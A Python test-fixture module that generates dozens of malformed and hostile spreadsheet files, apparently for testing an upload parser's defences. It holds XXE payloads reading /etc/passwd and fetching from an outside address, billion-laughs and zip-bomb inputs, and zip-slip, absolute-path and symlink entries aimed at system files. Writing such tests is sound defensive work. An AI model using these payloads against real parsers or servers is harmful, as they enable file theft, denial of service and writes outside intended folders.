"""Bad files of every kind: a small good workbook, and some sixty that are not."""

import io
import struct
import zipfile

from tests.support.sheets import xlsx

GOOD = xlsx([["张示例", "男"]], headings=["姓名", "性别"])
SHEET, BOOK, TYPES, STYLES = "xl/worksheets/sheet1.xml", "xl/workbook.xml", "[Content_Types].xml", "xl/styles.xml"
STRINGS, RELS = "xl/sharedStrings.xml", "xl/_rels/workbook.xml.rels"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LAUGHS = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))


def parts():
    with zipfile.ZipFile(io.BytesIO(GOOD)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(*, instead=None, more=None, without=(), infos=(), method=zipfile.ZIP_DEFLATED):
    """The good workbook with parts replaced, added, left out; `infos` are entries with an odd table of contents."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in {**parts(), **(instead or {})}.items():
            if name not in without:
                archive.writestr(name, content)
        for name, content in (more or {}).items():
            archive.writestr(name, content)
        for info, content in infos:
            archive.writestr(info, content)
    return out.getvalue()


def sheet(inside, *, head="", dimension="A1:B2"):
    return f'<?xml version="1.0" encoding="UTF-8"?>{head}<worksheet xmlns="{MAIN}"><dimension ref="{dimension}"/>{inside}</worksheet>'


def with_sheet(inside, **said):
    return packed(instead={SHEET: sheet(inside, **said)})


def info(name, *, mode=0, flags=0):
    made = zipfile.ZipInfo(name)
    made.external_attr = mode << 16
    made.flag_bits = flags
    return made


def lying():
    """A workbook whose table says that a part is small, and whose bytes go on."""
    content = bytearray(GOOD)
    place = content.rfind(SHEET.encode()) - 46
    struct.pack_into("<I", content, place + 24, 10)
    return bytes(content)


def marked(flag):
    """An entry that says it is encrypted."""
    content = bytearray(GOOD)
    for sign, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = content.find(sign)
        struct.pack_into("<H", content, place + offset, flag)
    return bytes(content)


def nested(depth):
    inner = b"0" * 2_000_000
    for level in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(4):
                archive.writestr(f"{level}-{number}.zip", inner)
        inner = out.getvalue()
    return inner


def strings(inside, head=""):
    return packed(instead={STRINGS: f'<?xml version="1.0"?>{head}<sst xmlns="{MAIN}">{inside}</sst>'})


def rels(kind, target):
    outside = (
        f'<Relationship Id="rId99" Type="http://x/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return packed(instead={RELS: parts()[RELS].decode().replace("</Relationships>", outside)})


def bad():
    """Name and bytes of each."""
    row = '<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c></row>'
    doctype = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    zeros = b"0" * 30_000_000
    yield "empty", b""
    yield "pdf", b"%PDF-1.7\n" + b"\0" * 100
    yield "pdf of text", b"%PDF-1.7\n1 0 obj <<>> endobj\n"
    yield "exe", b"MZ\x90\0" + b"\0" * 200
    yield "png", b"\x89PNG\r\n\x1a\n" + b"\0" * 50
    yield "old xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    yield (
        "encrypted",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 90 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 99,
    )
    yield "noise", bytes(range(256)) * 20
    yield "utf-16", "姓名,性别\n张示例,男".encode("utf-16")
    yield "half a character", b"\xff\xff\xfe" * 30
    yield "only PK", b"PK\x03\x04"
    yield "empty zip", b"PK\x05\x06" + b"\0" * 18
    for sixteenth in (1, 4, 8, 12, 15):
        yield f"cut at {sixteenth}/16", GOOD[: len(GOOD) * sixteenth // 16]
    yield "not a workbook", packed(without=(BOOK,))
    yield "no types", packed(without=(TYPES,))
    yield "no sheet", packed(without=(SHEET,))
    yield "no relations", packed(without=(RELS,))
    yield "word", packed(without=(BOOK,), more={"word/document.xml": "x"})
    yield "ods", packed(without=(BOOK,), more={"mimetype": "application/vnd.oasis.opendocument.spreadsheet"})
    yield "xlsb", packed(without=(BOOK,), more={"xl/workbook.bin": b"\0"})
    yield "macros", packed(more={"xl/vbaProject.bin": b"\0"})
    yield "macros elsewhere", packed(more={"xl/other/VBAPROJECT.bin": b"\0"})
    yield "macro sheets", packed(more={"xl/macrosheets/sheet1.xml": "<x/>"})
    yield (
        "macro type",
        packed(instead={TYPES: parts()[TYPES].decode().replace("sheet.main", "sheet.macroEnabled.main")}),
    )
    yield "active x", packed(more={"xl/activeX/activeX1.bin": b"\0"})
    yield "external link", packed(more={"xl/externalLinks/externalLink1.xml": "<x/>"})
    yield "connections", packed(more={"xl/connections.xml": "<x/>"})
    yield "query", packed(more={"xl/queryTables/queryTable1.xml": "<x/>"})
    yield "template from outside", rels("attachedTemplate", "http://192.0.2.1/x")
    yield "picture from outside", rels("image", "file://192.0.2.1/share/x.png")
    yield "embedded", packed(more={"xl/embeddings/oleObject1.bin": b"\0"})
    yield "an exe inside", packed(more={"xl/media/x.exe": b"MZ"})
    yield "a zip inside", packed(more={"xl/media/x.zip": nested(1)})
    yield "nested zips", nested(3)
    yield "flat bomb", packed(more={"xl/media/x.xml": zeros})
    yield "sheet bomb", packed(instead={SHEET: sheet("<sheetData>" + " " * 30_000_000 + "</sheetData>")})
    yield "strings bomb", strings("<si><t>" + "一" * 20_000_000 + "</t></si>")
    yield "declared giant", lying()
    yield "many entries", packed(more={f"xl/x{number}.xml": "" for number in range(2_100)})
    yield "slip", packed(more={"../../etc/cron.d/x": "x"})
    yield "slip inside", packed(more={"xl/../../x.xml": "x"})
    yield "absolute", packed(more={"/etc/passwd": "x"})
    yield "backslash", packed(infos=[(info("xl\\..\\x.xml"), "x")], more={"xl/a\\b.xml": "x"})
    yield "drive", packed(more={"c:/x.xml": "x"})
    yield "control sign", packed(more={"xl/a\x01b.xml": "x"})
    yield "long name", packed(more={"xl/" + "x" * 300 + ".xml": "x"})
    yield "symlink", packed(infos=[(info("xl/link.xml", mode=0o120777), "/etc/passwd")])
    yield "device", packed(infos=[(info("xl/dev.xml", mode=0o020666), "x")])
    yield "the same name twice", packed(more={"XL/workbook.xml": "x"})
    yield "says it is encrypted", marked(1)
    yield "other packing", packed(more={}, method=zipfile.ZIP_BZIP2)
    yield "lzma", packed(more={}, method=zipfile.ZIP_LZMA)
    yield "xxe in the sheet", with_sheet(f"<sheetData>{row}</sheetData>", head=doctype)
    yield "xxe in strings", strings("<si><t>&e;</t></si>", head=doctype)
    yield "xxe in the book", packed(instead={BOOK: doctype + parts()[BOOK].decode().partition("?>")[2]})
    yield "xxe in styles", packed(instead={STYLES: doctype + "<styleSheet/>"})
    yield "billion laughs", strings("<si><t>&e9;</t></si>", head=f'<!DOCTYPE x [<!ENTITY e0 "ha">{LAUGHS}]>')
    yield (
        "parameter entities",
        with_sheet("<sheetData/>", head='<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/">%p;]>'),
    )
    yield "late doctype", packed(instead={SHEET: "<!--" + "x" * 5_000 + f"-->{doctype}<worksheet/>"})
    yield (
        "utf-16 sheet",
        packed(instead={SHEET: sheet(f"<sheetData>{row}</sheetData>").replace("UTF-8", "UTF-16").encode("utf-16")}),
    )
    yield "no xml", packed(instead={SHEET: b"\x01\x02\x03"})
    yield "unclosed", packed(instead={SHEET: "<worksheet><sheetData><row>"})
    yield (
        "a string that is not there",
        with_sheet('<sheetData><row r="1"><c r="A1" t="s"><v>99999</v></c></row></sheetData>'),
    )
    yield "rows backwards", with_sheet('<sheetData><row r="2"><c r="A2"><v>1</v></c></row><row r="1"/></sheetData>')
    yield "row past the end", with_sheet('<sheetData><row r="99999999"><c r="A1"><v>1</v></c></row></sheetData>')
    yield "column past the end", with_sheet('<sheetData><row r="1"><c r="ZZZZ1"><v>1</v></c></row></sheetData>')
    yield (
        "too many merged",
        with_sheet(
            "<sheetData/><mergeCells>"
            + "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(1, 20_100))
            + "</mergeCells>"
        ),
    )


HUGE = with_sheet(
    '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c></row>'
    '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>远</t></is></c></row></sheetData>',
    dimension="A1:XFD1048576",
)
"""Claims seventeen thousand million cells, and holds two."""
